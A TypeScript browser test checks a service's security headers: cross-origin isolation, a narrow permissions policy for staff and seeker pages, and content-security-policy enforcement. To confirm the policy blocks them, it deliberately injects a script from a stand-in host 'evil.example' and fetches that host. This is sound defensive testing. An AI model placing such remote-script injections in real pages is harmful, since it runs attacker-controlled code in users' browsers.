/** What a real browser makes of the headers: pages that are walled off, ask for nothing, and break no rule of theirs. */
import { expect, test } from 'vitest';
import { launchBrowser } from '../helpers/browser.ts';
import { joinLine, seekerAt, volunteerAt, type Seat } from '../helpers/pages.ts';
import { startService } from '../helpers/service.ts';

/** Of Chromium's own; the types know nothing of it. */
interface Walled extends Document {
  readonly featurePolicy: { allowedFeatures(): string[] };
}

async function walls({ page }: Seat) {
  return page.evaluate(() => ({
    isolated: crossOriginIsolated,
    apart: originAgentCluster,
    allowed: (document as Walled).featurePolicy
      .allowedFeatures()
      // Hints are headers of requests, which nobody asks for here; isolation is a wall.
      .filter((name) => !name.startsWith('ch-') && name !== 'cross-origin-isolated')
      .toSorted(),
  }));
}

/** What the staff's pages ask of the browser; a seeker's asks nothing. */
const STAFF = ['clipboard-write', 'publickey-credentials-create', 'publickey-credentials-get'];

test('[A1, S1] in a browser the pages are walled off, may ask for no more than staff need, and violate no policy', async () => {
  await using browser = await launchBrowser();
  await using service = await startService({ nodes: 1, realTime: true });
  await using volunteer = await volunteerAt(browser, service, 0);
  await using seeker = await seekerAt(browser, service.origin(0));
  await joinLine(seeker);
  await volunteer.page.getByRole('button', { name: 'Answer' }).waitFor();
  for (const [seat, allowed] of [
    [seeker, []],
    [volunteer, STAFF],
  ] as const) {
    expect(await walls(seat)).toEqual({ isolated: true, apart: true, allowed });
    expect(seat.faults).toEqual([]);
  }
  // The wall holds: an answer that did not come, a script of nowhere, a text made a script.
  const broken = await seeker.page.evaluate(async () => {
    const seen: string[] = [];
    addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
    const told = () =>
      new Promise((resolve) =>
        addEventListener('securitypolicyviolation', resolve, { once: true }),
      );
    const tries = [
      () =>
        document.head.append(
          Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
        ),
      () => void fetch('https://evil.example/').catch(() => {}),
      () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/' })),
      () => (document.createElement('div').innerHTML = '<b>x</b>'),
    ];
    for (const attempt of tries) {
      const heard = told();
      try {
        attempt();
      } catch {
        // Refused on the spot.
      }
      await heard;
    }
    return seen;
  });
  expect(broken).toEqual([
    'require-trusted-types-for',
    'connect-src',
    'frame-src',
    'require-trusted-types-for',
  ]);
});
